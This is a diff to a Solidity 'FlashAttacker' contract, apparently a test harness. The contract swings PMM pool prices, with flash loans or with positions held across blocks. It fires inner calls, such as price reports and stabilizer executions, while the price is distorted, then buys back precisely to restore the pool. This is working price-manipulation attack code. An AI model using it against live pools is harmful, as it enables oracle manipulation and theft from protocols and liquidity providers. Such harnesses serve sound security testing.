@@ -3,6 +3,8 @@ pragma solidity 0.8.33;
 
 import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
 import {SafeERC20} from "@openzeppelin/contracts/token/ERC20/utils/SafeERC20.sol";
+import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";
+import {SafeCast} from "@openzeppelin/contracts/utils/math/SafeCast.sol";
 import {ICommonErrors} from "../interfaces/ICommonErrors.sol";
 import {IPmmPool} from "../interfaces/IPmmPool.sol";
 
@@ -12,22 +14,36 @@ import {IPmmPool} from "../interfaces/IPmmPool.sol";
 contract FlashAttacker is ICommonErrors {
     using SafeERC20 for IERC20;
 
-    /// @dev A swing: sell `amountIn` into `pool`, make the inner call, sell back exactly what was received.
+    /// @dev Something done while a swing is open: a price report, an execution of the stabilizer.
+    struct InnerCall {
+        address target;
+        bytes data;
+    }
+
+    /// @dev A swing: sell `amountIn` into `pool`, make the inner calls, buy back exactly what was sold.
     struct Swing {
         IPmmPool pool;
         bool sellBase;
         uint256 amountIn;
-        /// @dev Zero: no inner call.
-        address innerTarget;
-        bytes innerData;
+        InnerCall[] inner;
+    }
+
+    /// @dev What `open` received, to be sold back by `close`.
+    struct Position {
+        bool soldBase;
+        uint248 received;
     }
 
     /// @dev Ratio before the swing, at its height, and after it.
     event Swung(address indexed pool, uint256 ratioBeforeWad, uint256 ratioInsideWad, uint256 ratioAfterWad);
-    /// @dev What the inner call answered.
-    event InnerCall(address indexed target, bool success, bytes4 reason);
+    /// @dev What an inner call answered.
+    event InnerCalled(address indexed target, bool success, bytes4 reason);
+
+    /// @dev Each one divides the error by about a thousand at the curvatures in use.
+    uint256 private constant CORRECTIONS = 4;
 
     address public immutable owner;
+    mapping(IPmmPool pool => Position position) public positions;
     IPmmPool private transient _lender;
 
     modifier onlyOwner() {
@@ -67,9 +83,18 @@ contract FlashAttacker is ICommonErrors {
         _repay(lender._QUOTE_TOKEN_(), quoteAmount, rate);
     }
 
-    /// @notice One plain trade with own tokens: a swing held open over blocks.
-    function sell(IPmmPool pool, bool sellBase, uint256 amountIn) external onlyOwner returns (uint256 amountOut) {
-        return _sell(pool, sellBase, amountIn);
+    /// @notice Opens a swing that is held over blocks.
+    function open(IPmmPool pool, bool sellBase, uint256 amountIn) external onlyOwner returns (uint256 received) {
+        received = _sell(pool, sellBase, amountIn);
+        positions[pool] = Position(sellBase, SafeCast.toUint248(received));
+    }
+
+    /// @notice Sells back exactly what `open` received.
+    function close(IPmmPool pool) external onlyOwner returns (uint256 amountOut) {
+        Position memory position = positions[pool];
+        require(position.received > 0, ZeroAmount());
+        delete positions[pool];
+        return _sell(pool, !position.soldBase, position.received);
     }
 
     function withdraw(IERC20 token, uint256 amountUnits) external onlyOwner {
@@ -80,13 +105,29 @@ contract FlashAttacker is ICommonErrors {
         uint256 ratioBefore = plan.pool.spotRatio();
         uint256 received = _sell(plan.pool, plan.sellBase, plan.amountIn);
         uint256 ratioInside = plan.pool.spotRatio();
-        if (plan.innerTarget != address(0)) {
-            (bool success, bytes memory answer) = plan.innerTarget.call(plan.innerData);
+        for (uint256 i = 0; i < plan.inner.length; ++i) {
+            (bool success, bytes memory answer) = plan.inner[i].target.call(plan.inner[i].data);
             // forge-lint: disable-next-line(unsafe-typecast)
-            emit InnerCall(plan.innerTarget, success, success ? bytes4(0) : bytes4(answer));
+            emit InnerCalled(plan.inner[i].target, success, success ? bytes4(0) : bytes4(answer));
         }
-        _sell(plan.pool, !plan.sellBase, received);
+        _buyBack(plan, received);
         emit Swung(address(plan.pool), ratioBefore, ratioInside, plan.pool.spotRatio());
+    }
+
+    /// @dev Pays as much as it takes to get back what was sold, so that the pool's inventory stands where it stood: the price per unit of
+    /// the last quote corrects the amount, and a few corrections reach it to the unit.
+    function _buyBack(Swing memory plan, uint256 received) private {
+        uint256 amountIn = received;
+        for (uint256 i = 0; i < CORRECTIONS; ++i) {
+            uint256 out = _query(plan.pool, !plan.sellBase, amountIn);
+            amountIn = Math.mulDiv(amountIn, plan.amountIn, out, Math.Rounding.Ceil);
+        }
+        _sell(plan.pool, !plan.sellBase, amountIn);
+    }
+
+    function _query(IPmmPool pool, bool sellBase, uint256 amountIn) private view returns (uint256 amountOut) {
+        if (sellBase) (amountOut, , , ) = pool.querySellBase(address(this), amountIn);
+        else (amountOut, , , ) = pool.querySellQuote(address(this), amountIn);
     }
 
     function _sell(IPmmPool pool, bool sellBase, uint256 amountIn) private returns (uint256 amountOut) {
